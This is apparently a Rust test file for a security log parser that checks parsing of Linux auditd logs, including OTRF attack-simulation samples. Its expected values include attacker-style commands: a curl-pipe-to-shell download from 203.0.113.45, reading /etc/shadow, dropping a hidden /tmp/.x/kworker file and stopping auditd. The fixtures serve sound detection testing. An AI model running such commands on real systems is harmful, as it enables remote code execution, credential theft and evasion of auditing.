//! Linux audit logs: the Security-Datasets (OTRF) samples and our examples.

use vigil_event::{Event, Value};
use vigil_test_support::{corpus_path, examples, snapshot_settings};

use crate::read_clean_lines;

/// Lines that hold more than whitespace, counted without the reader.
/// The `type=` of every line, taken from the text.
fn types(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| l.split_once("type=")?.1.split(' ').next().map(String::from))
        .collect()
}

fn find<'e>(events: &'e [Event], name: &str, value: &str) -> &'e Event {
    events
        .iter()
        .find(|e| e.get_str(name) == Some(value))
        .unwrap_or_else(|| panic!("no event with {name} = {value}"))
}

fn read_clean(path: &std::path::Path) -> (String, crate::Read) {
    let (text, read) = read_clean_lines(path, "auditd");
    let got: Vec<String> = read
        .events
        .iter()
        .map(|e| e.get_str("type").unwrap().to_string())
        .collect();
    assert_eq!(got, types(&text));
    (text, read)
}

#[test]
fn arp_cache_sample_has_one_event_per_record() {
    let Some(path) = corpus_path("logs/linux-auditd/sh_arp_cache_2020-11-10074812.log") else {
        return;
    };
    let (_, read) = read_clean(&path);
    assert_eq!(read.events.len(), 12);
    let syscall = &read.events[0];
    assert_eq!(syscall.get("audit.sequence"), Some(&Value::Int(92733)));
    assert_eq!(
        syscall.timestamp.unwrap().to_string(),
        "2020-11-10T07:48:16.155Z"
    );
    assert_eq!(syscall.get_str("exe"), Some("/usr/sbin/arp"));
    assert_eq!(syscall.get_str("comm"), Some("arp"));
    assert_eq!(syscall.get_str("SYSCALL"), Some("execve"));
    assert_eq!(syscall.get("euid"), Some(&Value::Int(1000)));
    let execve = &read.events[1];
    assert_eq!(execve.get_str("a0"), Some("arp"));
    assert_eq!(execve.get_str("a1"), Some("-a"));
    assert_eq!(execve.get_str("process.command_line"), Some("arp -a"));
    let grep = find(&read.events, "proctitle", "grep -v ^?");
    assert_eq!(grep.get("audit.sequence"), Some(&Value::Int(92734)));
    let path_record = find(&read.events, "name", "/usr/sbin/arp");
    assert_eq!(path_record.get_str("nametype"), Some("NORMAL"));
    assert_eq!(path_record.get("inode"), Some(&Value::Int(13181)));
    snapshot_settings().bind(|| {
        insta::assert_json_snapshot!("auditd_syscall_arp", syscall);
        insta::assert_json_snapshot!("auditd_execve_arp", execve);
    });
}

#[test]
fn binary_padding_sample_decodes_its_proctitle() {
    let Some(path) = corpus_path("logs/linux-auditd/sh_binary_padding_dd_2020-11-10081941.log")
    else {
        return;
    };
    let (_, read) = read_clean(&path);
    assert_eq!(read.events.len(), 6);
    let proctitle = find(&read.events, "type", "PROCTITLE");
    assert_eq!(
        proctitle.get_str("proctitle"),
        Some("dd if=/dev/zero bs=1 count=1")
    );
    let execve = find(&read.events, "type", "EXECVE");
    assert_eq!(
        execve.get("process.args"),
        Some(&Value::List(
            ["dd", "if=/dev/zero", "bs=1", "count=1"]
                .map(Value::from)
                .to_vec()
        ))
    );
}

#[test]
fn example_audit_log_covers_user_records_hex_and_enriched_fields() {
    let dir = examples().join("samples/auditd");
    let (_, read) = read_clean(&dir.join("audit.log"));
    let events = &read.events;
    assert_eq!(events.len(), 18);

    let failed = find(events, "type", "USER_AUTH");
    assert_eq!(failed.get_str("acct"), Some("root"));
    assert_eq!(failed.get_str("addr"), Some("203.0.113.45"));
    assert_eq!(failed.get_str("res"), Some("failed"));
    assert_eq!(failed.get_str("op"), Some("PAM:authentication"));

    let sudo = find(events, "type", "USER_CMD");
    assert_eq!(sudo.get_str("cmd"), Some("/usr/bin/cat /etc/shadow"));
    assert_eq!(sudo.get_str("cwd"), Some("/home/deploy"));

    let curl = find(events, "a1", "-c");
    assert_eq!(
        curl.get_str("a2"),
        Some("curl -s http://203.0.113.45/x.sh | sh")
    );
    assert_eq!(
        curl.get_str("process.command_line"),
        Some("bash -c curl -s http://203.0.113.45/x.sh | sh")
    );
    // The records of one call share its serial.
    let same_call: Vec<&str> = events
        .iter()
        .filter(|e| e.get("audit.sequence") == Some(&Value::Int(4130)))
        .map(|e| e.get_str("type").unwrap())
        .collect();
    assert_eq!(same_call, ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]);
    assert_eq!(
        find(events, "key", "exec_log").get_str("exe"),
        Some("/usr/bin/bash")
    );

    let enriched = find(events, "SYSCALL", "openat");
    assert_eq!(enriched.get("syscall"), Some(&Value::Int(257)));
    assert_eq!(enriched.get_str("AUID"), Some("deploy"));
    assert_eq!(enriched.get_str("key"), Some("(null)"));
    let created = find(events, "nametype", "CREATE");
    assert_eq!(created.get_str("name"), Some("/tmp/.x/kworker"));
    assert_eq!(
        created.get_str("name_hex"),
        Some("2F746D702F2E782F6B776F726B6572")
    );
    assert_eq!(created.get_str("OUID"), Some("deploy"));

    let avc = find(events, "type", "AVC");
    assert_eq!(avc.get_str("message"), Some("avc: denied { read } for"));
    assert_eq!(avc.get_str("tclass"), Some("file"));
    let stop = find(events, "type", "SERVICE_STOP");
    assert_eq!(stop.get_str("unit"), Some("auditd"));
    snapshot_settings().bind(|| insta::assert_json_snapshot!("auditd_user_cmd_hex", sudo));
}

#[test]
fn example_audisp_syslog_lines_keep_the_node_as_host() {
    let dir = examples().join("samples/auditd");
    let (_, read) = read_clean(&dir.join("audisp-syslog.log"));
    assert!(
        read.events
            .iter()
            .all(|e| e.host.as_deref() == Some("web01.example.com")
                && e.get_str("host.hostname") == Some("web01"))
    );
    let stop = find(&read.events, "type", "USER_CMD");
    assert_eq!(stop.get_str("cmd"), Some("systemctl stop auditd"));
    assert_eq!(stop.get("log.syslog.priority"), Some(&Value::Int(86)));
    assert_eq!(
        stop.timestamp.unwrap().to_string(),
        "2024-03-14T08:26:42Z",
        "the audit time"
    );
}
